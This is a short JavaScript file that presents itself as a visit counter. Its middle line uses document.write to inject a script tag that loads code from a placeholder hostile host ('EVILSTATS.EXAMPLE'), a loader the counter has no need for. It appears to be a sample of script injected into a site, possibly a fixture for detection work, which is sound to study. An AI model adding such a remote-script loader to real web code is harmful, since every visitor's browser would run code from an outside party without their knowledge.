var visits = 0;
document.write("<script src='http://EVILSTATS.EXAMPLE/c.js'><\/script>");
function count() { visits++; }
